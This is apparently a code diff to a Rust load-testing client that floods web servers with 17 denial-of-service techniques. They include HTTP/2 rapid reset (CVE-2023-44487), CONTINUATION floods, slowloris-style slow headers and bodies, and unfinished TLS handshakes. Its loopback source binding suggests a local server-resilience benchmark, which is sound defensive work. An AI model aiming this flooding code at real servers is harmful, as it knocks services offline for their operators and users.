@@ -1,93 +1,199 @@
 //! Client that floods, on its own thread.
 
-use std::net::SocketAddr;
-use std::sync::Arc;
-use std::sync::atomic::{AtomicBool, Ordering};
-use std::thread::{self, JoinHandle};
+mod frames;
+mod slow;
 
-use anyhow::{Result, anyhow};
+use std::net::{Ipv4Addr, SocketAddr};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
+use std::thread::{self, JoinHandle};
+use std::time::Duration;
+
+use anyhow::{Context, Result, anyhow};
 use clap::ValueEnum;
+use futures_util::future::join_all;
 use rustls::pki_types::ServerName;
-use tokio::io::{self, AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, sink, split};
-use tokio::net::TcpStream;
+use tokio::io;
+use tokio::net::{TcpSocket, TcpStream};
 use tokio::runtime;
+use tokio::time::{sleep, timeout};
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
 
 use crate::tls::{Group, Offer, Trust, Version};
 
-/// Frames that cost a server more than a client.
+/// What costs a server more than a client.
 #[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
-pub(super) enum Kind {
+pub(crate) enum Kind {
     Ping,
     Settings,
     WindowUpdate,
+    Priority,
     /// A request, and its reset when the answer's head is there
     Reset,
+    /// Requests that are reset at once (CVE-2023-44487)
+    RapidReset,
+    /// A field block that does not end (CVE-2024-27316)
+    Continuation,
+    /// DATA of one byte
+    TinyFrames,
+    /// Fields of a megabyte, over HTTP/2
+    HugeHeads,
+    /// Fields of a megabyte, over HTTP/1.1
+    HugeHeadsHttp1,
+    /// Requests whose fields come byte by byte
+    SlowHeads,
+    /// Requests whose bodies come byte by byte
+    SlowBodies,
+    /// Answers that nobody reads, over HTTP/1.1
+    SlowReading,
+    /// Answers for which there is no window, over HTTP/2
+    ClosedWindows,
+    /// Idle connections of one prefix
+    Connections,
+    /// Handshakes that are not finished
+    Handshakes,
+    /// Requests, one after the other, as fast as they are answered
+    Requests,
 }
 
 impl Kind {
-    pub(super) const ALL: [Self; 4] = [Self::Ping, Self::Settings, Self::WindowUpdate, Self::Reset];
+    pub(crate) const ALL: [Self; 17] = [
+        Self::Ping,
+        Self::Settings,
+        Self::WindowUpdate,
+        Self::Priority,
+        Self::Reset,
+        Self::RapidReset,
+        Self::Continuation,
+        Self::TinyFrames,
+        Self::HugeHeads,
+        Self::HugeHeadsHttp1,
+        Self::SlowHeads,
+        Self::SlowBodies,
+        Self::SlowReading,
+        Self::ClosedWindows,
+        Self::Connections,
+        Self::Handshakes,
+        Self::Requests,
+    ];
 
-    pub(super) fn name(self) -> &'static str {
+    pub(crate) fn name(self) -> &'static str {
         match self {
             Self::Ping => "PING",
             Self::Settings => "SETTINGS",
             Self::WindowUpdate => "WINDOW_UPDATE",
+            Self::Priority => "PRIORITY",
             Self::Reset => "late RST_STREAM",
+            Self::RapidReset => "rapid reset",
+            Self::Continuation => "CONTINUATION",
+            Self::TinyFrames => "tiny frames",
+            Self::HugeHeads => "huge heads, h2",
+            Self::HugeHeadsHttp1 => "huge heads",
+            Self::SlowHeads => "slow heads",
+            Self::SlowBodies => "slow bodies",
+            Self::SlowReading => "slow reading",
+            Self::ClosedWindows => "closed windows",
+            Self::Connections => "connections",
+            Self::Handshakes => "handshakes",
+            Self::Requests => "requests",
         }
     }
+
+    /// Returns how many connections flood at the same time.
+    pub(crate) fn connections(self) -> usize {
+        match self {
+            Self::SlowHeads | Self::SlowBodies => 400,
+            Self::SlowReading | Self::ClosedWindows => 200,
+            Self::Connections | Self::Handshakes => 1000,
+            Self::Requests => 64,
+            _ => 1,
+        }
+    }
+
+    fn is_http1(self) -> bool {
+        matches!(
+            self,
+            Self::HugeHeadsHttp1
+                | Self::SlowHeads
+                | Self::SlowBodies
+                | Self::SlowReading
+                | Self::Connections
+                | Self::Requests
+        )
+    }
+}
+
+/// Whom to flood.
+#[derive(Clone, Debug)]
+pub(crate) struct Target {
+    pub(crate) address: SocketAddr,
+    pub(crate) host: String,
+    pub(crate) path: String,
+    /// Second number of the source addresses; None for any address.
+    pub(crate) net: Option<u8>,
+    /// Connections from one /24.
+    pub(crate) per_prefix: usize,
 }
 
 /// Result of a flood.
 #[derive(Debug, Default)]
-pub(super) struct Sent {
-    pub(super) frames: u64,
-    pub(super) connections: u64,
-    /// Error that ended the last connection.
-    pub(super) problem: String,
+pub(crate) struct Sent {
+    /// Frames, requests or bytes, by the kind.
+    pub(crate) frames: u64,
+    pub(crate) connections: u64,
 }
 
 /// Flood that runs until it is stopped.
-pub(super) struct Flooding {
-    stop: Arc<AtomicBool>,
-    thread: JoinHandle<Result<Sent>>,
+pub(crate) struct Flooding {
+    shared: Arc<Shared>,
+    thread: JoinHandle<Result<()>>,
+}
+
+#[derive(Default)]
+struct Shared {
+    stop: AtomicBool,
+    frames: AtomicU64,
+    connections: AtomicU64,
 }
 
 impl Flooding {
-    pub(super) fn start(target: SocketAddr, host: &str, kind: Kind) -> Result<Self> {
-        let stop = Arc::new(AtomicBool::new(false));
-        let attacker = Attacker {
-            target,
-            host: host.to_owned(),
-            kind,
-            stop: Arc::clone(&stop),
-        };
+    pub(crate) fn start(target: &Target, kind: Kind) -> Result<Self> {
+        let shared = Arc::new(Shared::default());
+        let attacker = Attacker::new(target, kind, Arc::clone(&shared))?;
         let thread = thread::Builder::new().name("flood".into()).spawn(move || {
+            // The clients that are measured share the machine with the flood.
+            let _ = rustix::process::nice(FLOOD_NICENESS);
             let runtime = runtime::Builder::new_current_thread()
                 .enable_all()
                 .build()?;
-            runtime.block_on(attacker.flood())
+            runtime.block_on(attacker.flood());
+            anyhow::Ok(())
         })?;
-        Ok(Self { stop, thread })
+        Ok(Self { shared, thread })
     }
 
-    pub(super) fn stop(self) -> Result<Sent> {
-        self.stop.store(true, Ordering::Relaxed);
+    pub(crate) fn stop(self) -> Result<Sent> {
+        self.shared.stop.store(true, Relaxed);
         let ended = self.thread.join();
-        ended.map_err(|_| anyhow!("the flood panicked"))?
+        ended.map_err(|_| anyhow!("the flood panicked"))??;
+        Ok(Sent {
+            frames: self.shared.frames.load(Relaxed),
+            connections: self.shared.connections.load(Relaxed),
+        })
     }
 }
 
 struct Attacker {
-    target: SocketAddr,
-    host: String,
+    target: Target,
+    name: ServerName<'static>,
     kind: Kind,
-    stop: Arc<AtomicBool>,
+    tls: TlsConnector,
+    shared: Arc<Shared>,
 }
 
 impl Attacker {
-    async fn flood(self) -> Result<Sent> {
+    fn new(target: &Target, kind: Kind, shared: Arc<Shared>) -> Result<Self> {
         let offer = Offer {
             version: Version::Tls13,
             group: Group::X25519,
@@ -95,121 +201,101 @@ impl Attacker {
             resume: None,
         };
         let mut config = offer.config()?;
-        config.alpn_protocols = vec![b"h2".to_vec()];
-        let tls = TlsConnector::from(Arc::new(config));
-        let name = ServerName::try_from(self.host.clone())?;
-        let mut sent = Sent::default();
+        if !kind.is_http1() {
+            config.alpn_protocols = vec![b"h2".to_vec()];
+        }
+        Ok(Self {
+            name: ServerName::try_from(target.host.clone()).context("a host")?,
+            target: target.clone(),
+            kind,
+            tls: TlsConnector::from(Arc::new(config)),
+            shared,
+        })
+    }
+
+    async fn flood(&self) {
+        let connections = (0..self.kind.connections()).map(|number| self.again(number));
+        join_all(connections).await;
+    }
+
+    /// Floods over one connection after the other. The server is expected to end them:
+    /// that limits the flood.
+    async fn again(&self, number: usize) {
         while !self.is_stopped() {
-            let socket = TcpStream::connect(self.target).await?;
-            socket.set_nodelay(true)?;
-            let stream = tls.connect(name.clone(), socket).await?;
-            sent.connections += 1;
-            // The server is expected to end the connection: that limits the
-            // flood.
-            if let Err(error) = self.connection(stream, &mut sent.frames).await {
-                sent.problem = error.to_string();
+            let connection = async {
+                let socket = self.connect(number).await?;
+                self.connection(socket).await
+            };
+            let stopped = async {
+                while !self.is_stopped() {
+                    sleep(POLL).await;
+                }
+            };
+            tokio::select! {
+                _ = connection => {}
+                () = stopped => return,
             }
-        }
-        Ok(sent)
-    }
-
-    async fn connection(&self, stream: TlsStream<TcpStream>, frames: &mut u64) -> io::Result<()> {
-        let (mut from, mut to) = split(stream);
-        if self.kind == Kind::Reset {
-            return self.reset(&mut from, &mut to, frames).await;
-        }
-        to.write_all(&preface(65_535)).await?;
-        let once = match self.kind {
-            Kind::Ping => frame(6, 0, 0, &[7; 8]),
-            Kind::Settings => frame(4, 0, 0, &[]),
-            Kind::WindowUpdate | Kind::Reset => frame(8, 0, 0, &[0, 0, 0, 1]),
-        };
-        let many = once.repeat(AT_ONCE);
-        let writing = async {
-            while !self.is_stopped() {
-                to.write_all(&many).await?;
-                to.flush().await?;
-                *frames += AT_ONCE as u64;
-            }
-            Ok(())
-        };
-        let mut nowhere = sink();
-        tokio::select! {
-            ended = writing => ended,
-            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
+            sleep(PAUSE).await;
         }
     }
 
-    /// Resets each request once its answer has begun. Without a window, each
-    /// answer stays pending until its reset.
-    async fn reset(
-        &self,
-        from: &mut ReadHalf<TlsStream<TcpStream>>,
-        to: &mut WriteHalf<TlsStream<TcpStream>>,
-        frames: &mut u64,
-    ) -> io::Result<()> {
-        to.write_all(&preface(0)).await?;
-        let mut answer = vec![0; 16 << 10];
-        for stream in (1..MOST_STREAMS).step_by(2) {
-            if self.is_stopped() {
-                break;
-            }
-            to.write_all(&get(stream, &self.host)).await?;
-            to.flush().await?;
-            if from.read(&mut answer).await? == 0 {
-                break;
-            }
-            to.write_all(&frame(3, 0, stream, &[0, 0, 0, 8])).await?;
-            *frames += 1;
+    async fn connect(&self, number: usize) -> io::Result<TcpStream> {
+        let socket = TcpSocket::new_v4()?;
+        if let Some(net) = self.target.net {
+            let prefix = u8::try_from(number / self.target.per_prefix).unwrap_or(u8::MAX);
+            let low = u8::try_from(number % 250).unwrap_or_default() + 1;
+            socket.set_reuseaddr(true)?;
+            socket.bind(SocketAddr::from((Ipv4Addr::new(127, net, prefix, low), 0)))?;
         }
-        Ok(())
+        if self.kind == Kind::SlowReading {
+            socket.set_recv_buffer_size(SMALL_BUFFER)?;
+        }
+        let socket = timeout(CONNECT, socket.connect(self.target.address)).await??;
+        socket.set_nodelay(true)?;
+        self.shared.connections.fetch_add(1, Relaxed);
+        Ok(socket)
+    }
+
+    async fn connection(&self, socket: TcpStream) -> io::Result<()> {
+        if self.kind == Kind::Handshakes {
+            return self.unfinished_handshake(socket).await;
+        }
+        let connecting = self.tls.connect(self.name.clone(), socket);
+        let mut stream: TlsStream<TcpStream> = timeout(CONNECT, connecting).await??;
+        match self.kind {
+            Kind::Ping | Kind::Settings | Kind::WindowUpdate | Kind::Priority => {
+                self.control_frames(stream).await
+            }
+            Kind::Reset => self.late_resets(&mut stream).await,
+            Kind::RapidReset => self.rapid_resets(stream).await,
+            Kind::Continuation => self.continuations(stream).await,
+            Kind::TinyFrames => self.tiny_frames(stream).await,
+            Kind::HugeHeads => self.huge_heads(stream).await,
+            Kind::ClosedWindows => self.closed_windows(&mut stream).await,
+            Kind::HugeHeadsHttp1 => self.huge_head(stream).await,
+            Kind::SlowHeads => self.slow_head(&mut stream).await,
+            Kind::SlowBodies => self.slow_body(&mut stream).await,
+            Kind::SlowReading => self.slow_reading(&mut stream).await,
+            Kind::Connections | Kind::Handshakes => self.idle(&mut stream).await,
+            Kind::Requests => self.requests(&mut stream).await,
+        }
+    }
+
+    fn sent(&self, frames: u64) {
+        self.shared.frames.fetch_add(frames, Relaxed);
     }
 
     fn is_stopped(&self) -> bool {
         // Relaxed: the flag orders nothing else, and one more write does not
         // matter.
-        self.stop.load(Ordering::Relaxed)
+        self.shared.stop.load(Relaxed)
     }
 }
 
-/// Encodes a frame (RFC 9113, section 4.1).
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
-    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
-    [&head, payload].concat()
-}
-
-/// Encodes the preface, with SETTINGS_INITIAL_WINDOW_SIZE.
-fn preface(window: u32) -> Vec<u8> {
-    let window = [&[0, 4][..], &window.to_be_bytes()].concat();
-    [PREFACE, &frame(4, 0, 0, &window)].concat()
-}
-
-/// Encodes HEADERS with END_STREAM and END_HEADERS: GET, https, path "/" and
-/// the authority (RFC 7541).
-fn get(stream: u32, host: &str) -> Vec<u8> {
-    let length = u8::try_from(host.len()).expect("a name of a test is short");
-    let fields = [&[0x82, 0x87, 0x84, 1, length], host.as_bytes()].concat();
-    frame(1, 0x5, stream, &fields)
-}
-
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-/// Frames in one write.
-const AT_ONCE: usize = 256;
-/// Stream id that ends a connection: ids must not be reused.
-const MOST_STREAMS: u32 = 1 << 30;
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn frames_have_their_length_in_front() {
-        let ping = frame(6, 0, 0, &[7; 8]);
-        assert_eq!(ping[..9], [0, 0, 8, 6, 0, 0, 0, 0, 0]);
-        assert_eq!(ping.len(), 17);
-        let request = get(3, "a.test");
-        assert_eq!(request[..9], [0, 0, 11, 1, 5, 0, 0, 0, 3]);
-        assert!(preface(0).ends_with(&[0, 4, 0, 0, 0, 0]));
-    }
-}
+const FLOOD_NICENESS: i32 = 10;
+const POLL: Duration = Duration::from_millis(20);
+/// Between two connections.
+const PAUSE: Duration = Duration::from_millis(2);
+/// Longer than a server lets a connection wait.
+const CONNECT: Duration = Duration::from_secs(15);
+const SMALL_BUFFER: u32 = 4096;
